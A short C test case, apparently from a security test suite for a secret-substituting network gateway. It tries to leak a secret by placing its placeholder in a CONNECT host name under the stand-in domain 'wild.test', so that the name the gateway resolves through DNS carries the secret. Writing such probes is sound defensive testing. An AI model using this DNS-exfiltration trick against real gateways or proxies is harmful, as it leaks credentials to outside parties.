/* ATTACK: a secret's placeholder as a CONNECT host name, to leak it through the name the gateway resolves | LAYER: gateway secret misuse (host names, DNS) | REF: - */
#include "netsecret.h"

int main(void)
{
	const char *ph = ns_placeholder();
	if (!ph)
		return ns_no_placeholder();
	char name[300], auth[320];
	snprintf(name, sizeof(name), "%s.wild.test", ph);
	snprintf(auth, sizeof(auth), "%s:443", name);
	unsigned char hello[512];
	size_t hl = na_client_hello(name, hello, sizeof(hello));
	return na_connect("placeholder as a CONNECT host", auth, hello, hl);
}
